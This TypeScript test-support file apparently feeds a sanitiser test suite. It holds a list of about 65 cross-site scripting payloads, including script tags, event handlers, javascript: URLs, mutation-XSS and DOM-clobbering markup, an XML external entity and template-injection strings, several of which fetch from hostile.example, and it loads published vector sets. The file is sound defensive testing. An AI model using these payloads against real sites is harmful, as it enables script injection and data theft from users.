import { existsSync, readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';

/**
 * Our own set: at least one for each way in which published collections get markup to run or to fetch. Each calls
 * `alert`, or asks for something of hostile.example, as soon as it is taken for markup.
 */
export const OWN_PAYLOADS: readonly (readonly [kind: string, payload: string])[] = [
  ['script', '<script>alert(1)</script>'],
  ['script from elsewhere', '<script src="https://hostile.example/a.js"></script>'],
  ['script, spelled oddly', '<ScRiPt/x>alert(1)</sCrIpT >'],
  ['script in a closed title', '</title><script>alert(1)</script>'],
  ['script in a closed text area', '</textarea><script>alert(1)</script>'],
  ['script in a closed style', '</style><script>alert(1)</script>'],
  ['script in a closed comment', '--><script>alert(1)</script><!--'],
  ['script in a closed script', '</script><script>alert(1)</script>'],
  ['handler on a broken picture', '<img src=x onerror=alert(1)>'],
  ['handler without quotes or spaces', '<img/src=x/onerror=alert(1)//'],
  ['handler after a quote', '"><img src=x onerror=alert(1)>'],
  ['handler after an apostrophe', "' onfocus=alert(1) autofocus tabindex=0 x='"],
  ['handler on SVG', '<svg onload=alert(1)>'],
  ['handler on an SVG animation', '<svg><animate onbegin=alert(1) attributeName=x dur=1s>'],
  ['handler on details', '<details open ontoggle=alert(1)>Chi tiết'],
  ['handler on focus', '<input autofocus onfocus=alert(1)>'],
  ['handler on a pointer', '<p onpointerover=alert(1) onclick=alert(1)>76,5 tỷ đồng</p>'],
  ['handler on the body', '<body onload=alert(1)>'],
  ['handler on a video', '<video><source onerror=alert(1)></video>'],
  ['handler on a marquee', '<marquee onstart=alert(1)>chạy</marquee>'],
  ['handler on a style', '<style onload=alert(1)></style>'],
  ['handler on an ended animation', '<style>@keyframes x{}</style><b style="animation:x" onanimationstart=alert(1)>'],
  ['address that is script', '<a href="javascript:alert(1)">Xem thêm</a>'],
  ['address that is script, with white space', '<a href="java&#9;script&colon;alert(1)">Xem thêm</a>'],
  ['address that is a page', '<a href="data:text/html,<script>alert(1)</script>">Xem thêm</a>'],
  ['form with an address that is script', '<form action="javascript:alert(1)"><button>Gửi</button></form>'],
  ['button that changes the form', '<form><button formaction=javascript:alert(1)>Gửi</button></form>'],
  ['frame', '<iframe src="javascript:alert(1)"></iframe>'],
  ['frame with its page', '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>'],
  ['frame from elsewhere', '<iframe src="https://hostile.example/"></iframe>'],
  ['object', '<object data="javascript:alert(1)"></object>'],
  ['embed', '<embed src="https://hostile.example/a.swf">'],
  ['refresh', '<meta http-equiv=refresh content="0;url=https://hostile.example/">'],
  ['refresh to script', '<meta http-equiv=refresh content="0;url=javascript:alert(1)">'],
  ['base', '<base href="https://hostile.example/">'],
  ['style sheet', '<link rel=stylesheet href="https://hostile.example/a.css">'],
  ['style that fetches', '<p style="background:url(https://hostile.example/b.png)">76,5 tỷ đồng</p>'],
  ['style that imports', '<style>@import "https://hostile.example/c.css"</style>'],
  ['prefetch', '<link rel=prefetch href="https://hostile.example/d">'],
  ['picture from elsewhere', '<img src="https://hostile.example/e.png" srcset="https://hostile.example/f.png 2x">'],
  ['picture in a table', '<table background="https://hostile.example/g.png"><td>76,5</td></table>'],
  ['sound', '<audio src="https://hostile.example/h.mp3" autoplay></audio>'],
  ['poster', '<video poster="https://hostile.example/i.png"></video>'],
  ['SVG use', '<svg><use href="https://hostile.example/j.svg#x"></use></svg>'],
  ['SVG script', '<svg><script>alert(1)</script></svg>'],
  ['SVG foreign object', '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>'],
  ['MathML', '<math><maction actiontype=statusline xlink:href="javascript:alert(1)">x</maction></math>'],
  ['mutation through noscript', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
  ['mutation through style in SVG', '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">'],
  [
    'mutation through math',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
  ],
  ['mutation through a form', '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>'],
  ['template', '<template><img src=x onerror=alert(1)></template>'],
  ['shadow tree', '<div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>'],
  ['clobbered document', '<form name=body><input name=querySelectorAll><input name=cloneNode></form>'],
  [
    'clobbered node',
    '<form><input name=parentNode><input name=nextSibling><input name=tagName><input name=attributes></form>',
  ],
  ['entities', '&lt;img src=x onerror=alert(1)&gt;'],
  ['entities twice', '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;'],
  ['hidden characters', '<img src=x one\u200Brror=alert(1)>\u202E<script>alert(1)</script>'],
  ['full-width brackets', '＜script＞alert(1)＜/script＞'],
  ['Markdown link', '[Xem thêm](javascript:alert(1)) ![ảnh](https://hostile.example/k.png)'],
  ['Markdown with markup', '`</code><img src=x onerror=alert(1)>`'],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a payload for template engines
  ['template text', '{{constructor.constructor("alert(1)")()}} ${alert(1)} #{alert(1)}'],
  ['XML entity', '<!DOCTYPE x [<!ENTITY e SYSTEM "https://hostile.example/l">]>&e;'],
  ['CDATA', '<![CDATA[<img src=x onerror=alert(1)>]]>'],
  ['processing instruction', '<?xml-stylesheet href="https://hostile.example/m.xsl"?>'],
];

const PUBLISHED = fileURLToPath(new URL('../../../../shared/xss/vectors.json', import.meta.url));

/** The published collections (DOMPurify, html5sec, PortSwigger), read from beside the project and never copied into it. */
export const publishedPayloads = (): readonly string[] => {
  if (!existsSync(PUBLISHED)) {
    console.warn('../shared/xss/vectors.json is not here: only our own payloads are tried.');
    return [];
  }
  const vectors: readonly { readonly c: string }[] = JSON.parse(readFileSync(PUBLISHED, 'utf8'));
  return vectors.map(({ c }) => c);
};

/** Splits a list into runs of at most `size`. */
export const inRuns = <T>(list: readonly T[], size: number): readonly (readonly T[])[] =>
  Array.from({ length: Math.ceil(list.length / size) }, (_none, index) => list.slice(index * size, (index + 1) * size));
